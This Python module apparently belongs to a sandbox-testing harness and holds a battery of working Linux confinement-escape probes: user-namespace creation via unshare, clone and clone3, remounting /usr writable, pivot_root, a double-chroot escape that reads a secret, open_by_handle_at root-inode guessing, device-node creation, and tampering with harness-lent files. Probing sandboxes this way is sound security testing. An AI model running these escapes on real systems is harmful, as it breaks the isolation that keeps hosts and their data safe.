"""Out of the root: mounts, roots, namespaces and handles."""

from __future__ import annotations

import ctypes
import os
import signal
import struct
import tempfile

from inside.kit import Inert, attack, call, checked, facts, libc, mount, read

_NEWUSER, _NEWNS, _NEWPID, _NEWNET = 0x10000000, 0x00020000, 0x20000000, 0x40000000
_REMOUNT, _BIND, _MOVE = 32, 4096, 8192


def _unshare(flags: int) -> None:
    checked(libc.unshare(flags), "unshare")


@attack
def unshare_user() -> str | None:
    """Become root of a new user namespace."""
    _unshare(_NEWUSER)
    return "every capability over new namespaces"


@attack
def clone_user() -> str | None:
    """Start a process in a new user namespace."""
    number = 56 if os.uname().machine == "x86_64" else 220
    pid = checked(
        libc.syscall(ctypes.c_long(number), ctypes.c_ulong(_NEWUSER | signal.SIGCHLD), None, None, None, None)
    )
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "a process in a new user namespace"


@attack
def clone3_user() -> str | None:
    """The same with the newer call, whose flags no filter sees."""
    arguments = ctypes.create_string_buffer(struct.pack("=8Q", _NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0), 64)
    pid = call("clone3", arguments, 64)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "a process in a new user namespace"


@attack
def unshare_mounts() -> str | None:
    """Make a mount namespace of one's own."""
    _unshare(_NEWNS)
    return "unshared"


@attack
def mount_a_file_system() -> str | None:
    """Mount a file system."""
    mount("x", "/tmp", "tmpfs")
    return "/tmp is another one"


@attack
def mount_proc_again() -> str | None:
    """Mount /proc again, without what lies over it."""
    place = tempfile.mkdtemp(dir="/tmp")
    mount("proc", place, "proc")
    return "mounted"


@attack
def mount_by_new_calls() -> str | None:
    """Mount with the newer calls."""
    return f"descriptor {call('fsopen', b'tmpfs', 0)}"


@attack
def copy_a_mount() -> str | None:
    """Copy a mount, to attach it elsewhere."""
    return f"descriptor {call('open_tree', -100, b'/usr', 1)}"


@attack
def make_usr_writable() -> str | None:
    """Take read-only off /usr."""
    own = tempfile.mkdtemp(dir="/tmp")
    mount(own, own, "", _BIND)
    for flags in (1, 0):
        mount("none", own, "", _REMOUNT | _BIND | flags)
    os.close(os.open(f"{own}/written", os.O_WRONLY | os.O_CREAT, 0o600))  # so it can
    mount("none", "/usr", "", _REMOUNT | _BIND | 2 | 4)
    os.close(os.open("/usr/share/written", os.O_WRONLY | os.O_CREAT, 0o600))
    return "/usr was written to"


@attack
def bind_elsewhere() -> str | None:
    """Show a folder in the place of another."""
    mount("/tmp", "/usr", "", _BIND)
    return "/usr is another one"


@attack
def unmount() -> str | None:
    """Take a mount away to see what is below."""
    checked(libc.umount2(b"/tmp", 2), "umount2")
    return "/tmp is gone"


@attack
def unmount_settings() -> str | None:
    """Take away the mount that makes settings read-only."""
    checked(libc.umount2(b"/proc/sys", 2), "umount2")
    return "/proc/sys is as it was"


@attack
def pivot_root() -> str | None:
    """Change the root of the whole mount namespace."""
    place = tempfile.mkdtemp(dir="/tmp").encode()
    mount("x", place.decode(), "tmpfs")
    os.mkdir(place + b"/old")
    call("pivot_root", place, place + b"/old")
    return "another root"


@attack
def leave_by_chroot() -> str | None:
    """Leave the root by a folder that was kept open from before a second chroot."""
    top = os.open("/", os.O_RDONLY)
    jail = tempfile.mkdtemp(dir="/tmp")
    os.chroot(jail)
    if os.path.exists("/usr"):
        raise Inert("there is no jail")
    os.fchdir(top)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    if not os.path.exists("/usr"):
        raise Inert("it cannot leave its own jail")
    return read(facts["secret"]).decode()


@attack
def open_by_handle() -> str | None:
    """Open the root folder of a disk by its number, from outside of it."""
    for inode in (2, 128, 64, 256, 1):  # of the root in ext4, xfs, btrfs
        handle = ctypes.create_string_buffer(struct.pack("=IiII", 8, 1, inode, 0), 24)
        folder = os.open("/usr", os.O_RDONLY)
        try:
            return f"inode {inode}: descriptor {call('open_by_handle_at', folder, handle, os.O_RDONLY)}"
        except OSError as error:
            if error.errno == 1:
                raise
    return "permitted"


@attack
def make_a_handle() -> str | None:
    """Learn the number by which a file could be opened from outside its folder."""
    handle, number = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136), ctypes.c_int()
    call("name_to_handle_at", -100, b"/usr", handle, ctypes.byref(number), 0)
    return handle.raw[8:16].hex()


@attack
def make_a_device() -> str | None:
    """Make a node for a disk, or for the memory, and open it."""
    place = tempfile.mkdtemp(dir="/tmp")
    for kind, number in ((0o020600, os.makedev(1, 1)), (0o060600, os.makedev(254, 0))):
        os.mknod(f"{place}/{number}", kind, number)
    return "made"


@attack
def write_usr() -> str | None:
    """Change a program of the machine."""
    for path in ("/usr/bin/env", "/usr/bin/git", "/usr/share/dict", "/usr/bin/perl"):
        if os.path.isfile(path):
            for way in ("", "/proc/self/root"):
                try:
                    os.close(os.open(way + path, os.O_WRONLY))
                    return path
                except OSError:
                    continue
    os.close(os.open("/usr/bin/bakeoff-attack", os.O_WRONLY | os.O_CREAT, 0o600))
    os.unlink("/usr/bin/bakeoff-attack")
    return "/usr/bin was written to"


@attack
def write_a_mount() -> str | None:
    """Change what the harness lent: write, rename, remove, change modes, owners, times and attributes."""
    path, done = facts["packet"], []
    tries = {
        "write": lambda: os.close(os.open(path, os.O_WRONLY)),
        "through /proc": lambda: os.close(os.open("/proc/self/root" + path, os.O_WRONLY)),
        "through its own descriptor": lambda: os.close(
            os.open(f"/proc/self/fd/{os.open(path, os.O_RDONLY)}", os.O_WRONLY)
        ),
        "chmod": lambda: os.chmod(path, 0o644),
        "times": lambda: os.utime(path, (1, 1)),
        "attribute": lambda: os.setxattr(path, "user.x", b"1"),
        "new file": lambda: os.close(os.open(path + ".new", os.O_WRONLY | os.O_CREAT, 0o600)),
        "link": lambda: os.link(path, path + ".link"),
        "rename": lambda: os.rename(path, path + ".renamed"),
        "remove": lambda: os.unlink(path),
    }
    for name, try_ in tries.items():
        try:
            try_()
            done.append(name)
        except OSError:
            continue
    return ", ".join(done) or None


@attack
def link_out_a_program() -> str | None:
    """Make a second name, in a folder of one's own, for a file of the machine."""
    place = tempfile.mkdtemp(dir=facts.get("writable", "/tmp"))
    os.close(os.open(f"{place}/own", os.O_WRONLY | os.O_CREAT, 0o600))
    os.link(f"{place}/own", f"{place}/second")  # so it can
    os.link("/usr/bin/env", f"{place}/env")
    return "a hard link"
